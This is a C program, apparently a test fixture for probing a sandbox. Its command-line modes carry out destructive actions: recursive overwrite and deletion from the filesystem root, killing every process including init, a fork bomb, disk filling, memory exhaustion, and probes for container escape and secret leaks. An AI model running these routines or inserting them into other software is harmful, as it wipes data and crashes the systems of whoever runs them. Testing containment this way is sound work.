/* What a hostile program does to whoever runs it; the first argument names it. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void everywhere(const char *folder, int depth) {
    char path[1024];
    struct dirent *one;
    DIR *d = opendir(folder);
    if (d == NULL || depth > 6) return;
    while ((one = readdir(d)) != NULL) {
        struct stat s;
        int fd;
        if (!strcmp(one->d_name, ".") || !strcmp(one->d_name, "..")) continue;
        snprintf(path, sizeof path, "%s/%s", folder, one->d_name);
        if (lstat(path, &s)) continue;
        if (S_ISDIR(s.st_mode)) everywhere(path, depth + 1);
        else if (S_ISREG(s.st_mode) && (fd = open(path, O_WRONLY | O_NONBLOCK)) >= 0) { write(fd, "gone", 4); close(fd); }
        unlink(path);
        rmdir(path);
    }
    closedir(d);
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "";
    signal(SIGTERM, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    if (!strcmp(what, "forks")) for (;;) fork();
    if (!strcmp(what, "waits")) for (;;) pause();
    if (!strcmp(what, "spins")) for (;;) ;
    if (!strcmp(what, "kills")) {
        kill(getppid(), SIGKILL);
        kill(1, SIGKILL);
        kill(-1, SIGKILL);
        for (int pid = 2; pid < 70000; pid++) if (pid != getpid()) kill(pid, SIGKILL);
        printf("still here\n");
    }
    if (!strcmp(what, "writes")) { everywhere("", 0); everywhere("/proc", 0); everywhere("/dev", 0); printf("done\n"); }
    if (!strcmp(what, "fills")) {
        char block[65536];
        for (int n = 0;; n++) {
            char path[64];
            int fd;
            snprintf(path, sizeof path, "/tmp/%d", n);
            if ((fd = open(path, O_WRONLY | O_CREAT, 0600)) < 0) break;
            while (write(fd, block, sizeof block) > 0) ;
            close(fd);
            if (n > 20000) break;
        }
        printf("full\n");
    }
    if (!strcmp(what, "eats")) for (;;) { char *p = malloc(16 << 20); if (p) memset(p, 1, 16 << 20); else if (fork() < 0) pause(); }
    if (!strcmp(what, "shouts")) for (;;) if (printf("%01000d", 7) < 0) return 0;
    if (!strcmp(what, "asks")) for (int n = 0; n < 200000; n++) close(open("/etc/passwd", O_RDONLY));
    if (!strcmp(what, "tries")) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {0};
        a.sin_family = AF_INET;
        a.sin_port = htons(argc > 2 ? atoi(argv[2]) : 80);
        inet_pton(AF_INET, argc > 3 ? argv[3] : "127.0.0.1", &a.sin_addr);
        printf("connect %d\n", connect(s, (struct sockaddr *)&a, sizeof a));
        printf("unshare %d\n", unshare(CLONE_NEWUSER));
        printf("mount %d\n", mount("none", "/tmp", "tmpfs", 0, ""));
        printf("mounted %d\n", access("/tmp/run", F_OK));
        printf("reboot %d\n", reboot(RB_AUTOBOOT));
        printf("ptrace %ld\n", ptrace(PTRACE_ATTACH, 1, 0, 0));
        printf("memory %d\n", open("/proc/1/mem", O_RDWR));
        printf("root %d\n", open("/proc/1/root/etc/passwd", O_RDONLY));
        printf("mknod %d\n", mknod("/tmp/disk", S_IFBLK | 0600, 8 << 8));
        printf("raw %d\n", socket(AF_INET, SOCK_RAW, 1));
        printf("packet %d\n", socket(AF_PACKET, SOCK_RAW, 0));
        printf("sysctl %d\n", open("/proc/sys/kernel/core_pattern", O_WRONLY));
        printf("clone %ld\n", syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
        printf("bpf %ld\n", syscall(SYS_bpf, 0, 0, 0));
        printf("setns %ld\n", syscall(SYS_setns, 0, 0));
        for (int fd = 3; fd < 64; fd++) if (fcntl(fd, F_GETFD) >= 0 && fd != s) printf("descriptor %d\n", fd);
        printf("environment %s\n", getenv("ABOVEBOARD_SECRET") ? "leaks" : "clean");
    }
    fflush(stdout);
    return 0;
}
